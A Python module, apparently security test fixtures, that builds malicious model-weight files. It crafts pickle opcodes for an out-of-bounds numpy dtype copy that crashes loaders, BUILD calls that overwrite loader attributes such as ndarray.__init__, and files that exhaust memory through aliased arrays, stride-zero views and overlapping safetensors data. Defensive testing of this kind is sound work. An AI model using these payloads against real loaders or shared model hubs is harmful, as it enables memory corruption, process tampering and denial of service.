"""What an attacker uploads as weights. The pickles are assembled from pickle's opcodes, never from real
objects, so each file says exactly which opcodes reach the loader; the other files are built with the
libraries' own writers."""

from __future__ import annotations

import json
import pickle
import struct
from pathlib import Path


def text(value: str) -> bytes:
    raw = value.encode("utf-8")
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def glob(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def call(func: bytes, *args: bytes) -> bytes:
    return func + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def tup(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def dtype(code: str, state: bytes | None = None) -> bytes:
    """numpy.dtype(code, False, True) with a BUILD state; by default numpy's own state for a plain dtype."""
    order = "|" if code[-1:] == "1" else "<"
    state = (
        state
        if state is not None
        else tup(integer(3), text(order), pickle.NONE, pickle.NONE, pickle.NONE, integer(-1), integer(-1), integer(0))
    )
    return call(glob("numpy", "dtype"), text(code), pickle.NEWFALSE, pickle.NEWTRUE) + state + pickle.BUILD


def out_of_bounds_dtype(offset: int = 4096, code: str = "V8") -> bytes:
    """An 8-byte dtype whose one float64 field lies `offset` bytes into the item: memory outside it.
    `code` "V8" is numpy's own spelling; a plain "f8" with the same state tries the BUILD path alone."""
    fields = pickle.MARK + text("f0") + tup(dtype("f8"), integer(offset)) + pickle.DICT
    state = tup(integer(3), text("|"), pickle.NONE, tup(text("f0")), fields, integer(8), integer(1), integer(16))
    return dtype(code, state)


def stop(body: bytes) -> bytes:
    return pickle.PROTO + b"\x02" + body + pickle.STOP


def out_of_bounds_array(count: int = 64, code: str = "V8") -> bytes:
    """{"w": _frombuffer(8 * count bytes, <the dtype above>, (count,), 'C').copy()}: the copy reads and writes
    4 kB past each item. This is what crashed fetch, compare and push with exit 139 or 134."""
    frombuffer = glob("numpy.core.numeric", "_frombuffer")
    array = call(frombuffer, data(b"\x01" * 8 * count), out_of_bounds_dtype(code=code), tup(integer(count)), text("C"))
    return stop(pickle.MARK + text("w") + array + pickle.DICT)


def build_on(module: str, name: str, attribute: str, value: bytes, slots: bool = True) -> bytes:
    """BUILD on an allow-listed global: with slots, plain pickle does setattr(obj, attribute, value);
    without, it writes obj.__dict__[attribute]. Either changes the loader for the rest of the process."""
    state = pickle.MARK + text(attribute) + value + pickle.DICT
    return stop(glob(module, name) + (tup(pickle.NONE, state) if slots else state) + pickle.BUILD)


def build_on_class(module: str = "numpy", name: str = "ndarray", attribute: str = "__init__") -> bytes:
    """setattr(<numpy.ndarray's stand-in>, "__init__", dict): what replaced _ArrayType.__init__."""
    return build_on(module, name, attribute, glob("collections", "OrderedDict"))


def aliased_arrays(names: int, elements: int) -> bytes:
    """A dict of `names` keys that all refer to one float64 array of `elements` (memoised once, fetched by BINGET)."""
    import pickletools

    import numpy as np

    whole = pickle.dumps(np.zeros(elements), protocol=4)
    array = whole[2:-1]  # without PROTO and STOP; the memo indices stay those of the whole pickle
    index = sum(opcode.name == "MEMOIZE" for opcode, _, _ in pickletools.genops(whole))  # the next free one
    get = pickle.LONG_BINGET + struct.pack("<I", index)
    entries = text("w0") + array + pickle.MEMOIZE + b"".join(text(f"w{i}") + get for i in range(1, names))
    return pickle.PROTO + b"\x04" + pickle.MARK + entries + pickle.DICT + pickle.STOP


def many_classes(count: int) -> bytes:
    """GLOBAL of `count` distinct unknown classes: each became a stand-in class of about a kilobyte."""
    body = b"".join(glob("m", f"C{index}") + pickle.POP for index in range(count))
    return stop(body + pickle.EMPTY_DICT)


def small_safetensors(path: Path) -> Path:
    """2.6 kB of real tensors: ten (4, 16) float32 matrices named like the huge spec's layers."""
    import torch
    from safetensors.torch import save_file

    save_file({f"{index}.weight": torch.ones(4, 16) for index in range(10)}, str(path))
    return path


def stride_zero_views(path: Path) -> Path:
    """Ten 32768 x 32768 tensors that are views of one 4-byte storage: torch.save keeps views, so 1.7 kB."""
    import torch

    one = torch.zeros(1)
    torch.save({f"{index}.weight": one.expand(32768, 32768) for index in range(10)}, path)
    return path


def overlapping_safetensors(path: Path) -> Path:
    """Two tensors over the same 1 MiB of data: each reader that copies them pays twice."""
    entry = {"dtype": "F32", "shape": [262144], "data_offsets": [0, 1 << 20]}
    header = json.dumps({"a": entry, "b": entry}).encode()
    path.write_bytes(len(header).to_bytes(8, "little") + header + b"\0" * (1 << 20))
    return path
